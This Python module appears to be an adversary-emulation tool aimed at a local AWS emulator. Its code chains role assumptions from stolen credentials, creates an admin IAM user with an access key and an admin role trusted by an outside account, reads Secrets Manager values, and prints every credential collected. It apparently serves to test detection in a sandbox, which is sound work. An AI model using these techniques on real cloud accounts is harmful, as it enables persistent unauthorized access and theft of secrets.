"""A thief who spreads: `python -m adversary.intrusion --help`.

He goes from role to role with the stolen session, into other accounts too, and leaves behind what lets him in tomorrow.
Each step is made once. What was made is printed, a line of JSON each, and at the end all credentials that he holds.
"""
import argparse
import json
import sys
from typing import Callable, Dict, Iterator, List, Mapping, Optional, Sequence

from botocore.exceptions import BotoCoreError, ClientError
from emulated_org.client import Emulator

from .credentials import Credential, code_of, from_sts, read_credentials
from .offspring import ADMIN

STOLEN = "stolen"
# The shortest zip archive: it has no files.
EMPTY_ZIP = b"PK\x05\x06" + bytes(18)


class Intrusion:
    """One stolen session and what comes of it. Each step raises what botocore raises; `run` goes on after it.

    `log` gets each line as a dict.
    """

    def __init__(
        self,
        endpoint: str,
        credentials: Mapping[str, str],
        account: str,
        region: str,
        into: Sequence[str] = (),
        outside: str = "",
        session_name: str = "app",
        prefix: str = "app-support",
        log: Callable[[dict], None] = lambda line: None,
    ) -> None:
        self._emulator = Emulator(endpoint)
        self._region, self.account = region, account
        self._into, self._outside, self._session_name = list(into), outside, session_name
        self.user_name, self.role_name, self.function_name = f"{prefix}-user", f"{prefix}-role", f"{prefix}-function"
        self.secret_name = f"{prefix}-secret"
        self._log = log
        self._keys: Dict[str, dict] = {}
        self._held: Dict[str, Credential] = {}
        self.hold(STOLEN, credentials, account)

    def hold(self, name: str, keys: Mapping[str, str], account: str) -> None:
        wanted = ("access_key_id", "secret_access_key", "session_token")
        self._keys[name] = {**{key: keys[key] for key in wanted if keys.get(key)}, "account": account}
        self._held[name] = Credential(self._emulator, keys, account, self._region)

    def call(self, name: str, operation: str, **parameters) -> dict:
        """With the credential of that name; `operation` is written as IAM names an action."""
        return self._held[name].call(operation, **parameters)

    def credentials(self) -> Dict[str, dict]:
        return {name: dict(keys) for name, keys in self._keys.items()}

    def close(self) -> None:
        for credential in self._held.values():
            credential.close()

    # --- Steps

    def assume(self, name: str, by: str, role_arn: str) -> str:
        """A session of the role, by another credential; its access key."""
        answer = self.call(by, "sts:AssumeRole", RoleArn=role_arn, RoleSessionName=self._session_name)
        keys, account = from_sts(answer["Credentials"]), role_arn.split(":")[4]
        self.hold(name, keys, account)
        user = answer["AssumedRoleUser"]
        self._made("session", name, account, arn=user["Arn"], principal_id=user["AssumedRoleId"],
                   access_key_id=keys["access_key_id"], by=by)
        return keys["access_key_id"]

    def chain(self) -> None:
        """The first role with the stolen session, and each further one with the session of the one before."""
        by = STOLEN
        for number, role_arn in enumerate(self._into, 1):
            name = f"chain-{number}"
            self.assume(name, by, role_arn)
            by = name

    def loop(self, times: int) -> None:
        """From role to role and back: the sessions of the first two open each other."""
        by = "chain-2"
        for number in range(1, times + 1):
            name = f"loop-{number}"
            self.assume(name, by, self._into[(number - 1) % 2])
            by = name

    def make_user(self) -> None:
        """A user with all rights, and a key of it."""
        named = {"UserName": self.user_name}
        user = self.call(STOLEN, "iam:CreateUser", **named)["User"]
        self._made("user", self.user_name, self.account, arn=user["Arn"])
        self.call(STOLEN, "iam:PutUserPolicy", **named, **ADMIN)
        key = from_sts(self.call(STOLEN, "iam:CreateAccessKey", **named)["AccessKey"])
        self.hold("user", key, self.account)
        self._made("key", key["access_key_id"], self.account, user=self.user_name)

    def make_role(self) -> None:
        """A role with all rights, which another organization's account may assume, and functions."""
        partition = self._partition()
        trusted = [{"AWS": f"arn:{partition}:iam::{self._outside}:root"}, {"Service": "lambda.amazonaws.com"}]
        statements = [{"Effect": "Allow", "Principal": one, "Action": "sts:AssumeRole"} for one in trusted]
        trust = json.dumps({"Version": "2012-10-17", "Statement": statements})
        role = self.call(STOLEN, "iam:CreateRole", RoleName=self.role_name, AssumeRolePolicyDocument=trust)["Role"]
        self._made("role", self.role_name, self.account, arn=role["Arn"], trusts=self._outside)
        self.call(STOLEN, "iam:PutRolePolicy", RoleName=self.role_name, **ADMIN)

    def make_function(self) -> None:
        """A function that is never called. It has the rights of the role that was made."""
        role = f"arn:{self._partition()}:iam::{self.account}:role/{self.role_name}"
        function = self.call(
            STOLEN, "lambda:CreateFunction", FunctionName=self.function_name, Runtime="python3.12", Role=role,
            Handler="app.handler", Code={"ZipFile": EMPTY_ZIP},
        )
        self._made("function", self.function_name, self.account, arn=function["FunctionArn"], region=self._region)

    def try_in_vain(self) -> str:
        """A role of the outside account, which lets nobody in; the error's code."""
        role_arn = f"arn:{self._partition()}:iam::{self._outside}:role/admin"
        try:
            self.call(STOLEN, "sts:AssumeRole", RoleArn=role_arn, RoleSessionName=self._session_name)
        except ClientError as error:
            code = code_of(error)
            self._log({"event": "denied", "operation": "sts:AssumeRole", "arn": role_arn, "code": code})
            return code
        raise AssertionError(f"{role_arn} let the thief in")

    def take_secret(self) -> None:
        """Any that is there; where there is none, one of his own."""
        listed = self.call(STOLEN, "secretsmanager:ListSecrets")["SecretList"]
        if listed:
            name, arn = listed[0]["Name"], listed[0]["ARN"]
        else:
            name = self.secret_name
            arn = self.call(STOLEN, "secretsmanager:CreateSecret", Name=name, SecretString="nothing")["ARN"]
            self._made("secret", name, self.account, arn=arn, region=self._region)
        self.call(STOLEN, "secretsmanager:GetSecretValue", SecretId=arn)
        self._log({"event": "took", "kind": "secret", "name": name, "arn": arn, "account": self.account})

    # --- All of them

    def run(self, loop: int = 0) -> None:
        """All steps, whatever becomes of each, and the credentials."""
        for step in self._steps(loop):
            try:
                step()
            except (ClientError, BotoCoreError) as error:
                self._log({"event": "refused", "step": getattr(step, "__name__", "loop"), "code": code_of(error)})
        self._log({"event": "credentials", **self.credentials()})

    def _steps(self, loop: int) -> Iterator[Callable[[], object]]:
        yield self.chain
        yield self.make_user
        if self._outside:
            yield self.make_role
            yield self.make_function
            yield self.try_in_vain
        yield self.take_secret
        if loop and "chain-2" in self._held:
            yield lambda: self.loop(loop)

    def _partition(self) -> str:
        """AWS says it to everybody."""
        return self.call(STOLEN, "sts:GetCallerIdentity")["Arn"].split(":")[1]

    def _made(self, kind: str, name: str, account: str, **more: Optional[str]) -> None:
        self._log({"event": "made", "kind": kind, "name": name, "account": account, **more})


def main(arguments: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m adversary.intrusion", description=__doc__)
    parser.add_argument("--endpoint", required=True, help="of the emulator: http://127.0.0.1:PORT")
    parser.add_argument("--credentials", required=True, type=read_credentials, metavar="JSON",
                        help="access_key_id, secret_access_key and session_token, or a file with them")
    parser.add_argument("--account", required=True, help="that of the credentials")
    parser.add_argument("--region", required=True)
    parser.add_argument("--into", action="append", default=[], metavar="ROLE_ARN",
                        help="a role to go to; of several, each from the one before")
    parser.add_argument("--outside", default="", metavar="ACCOUNT",
                        help="whom the role that is made trusts; without it neither role nor function is made")
    parser.add_argument("--session-name", default="app", help="of the sessions that are opened (app)")
    parser.add_argument("--prefix", default="app-support", help="of the names of what is made (app-support)")
    parser.add_argument("--loop", type=int, default=0, metavar="N",
                        help="N more sessions: the first two roles assume each other")
    options = parser.parse_args(arguments)
    if options.loop and len(options.into) < 2:
        parser.error("--loop goes between two roles: --into twice")
    try:
        intrusion = Intrusion(
            options.endpoint, options.credentials, options.account, options.region, options.into, options.outside,
            options.session_name, options.prefix, lambda line: print(json.dumps(line), flush=True),
        )
    except ValueError as error:
        parser.error(str(error))
    intrusion.run(options.loop)
    intrusion.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
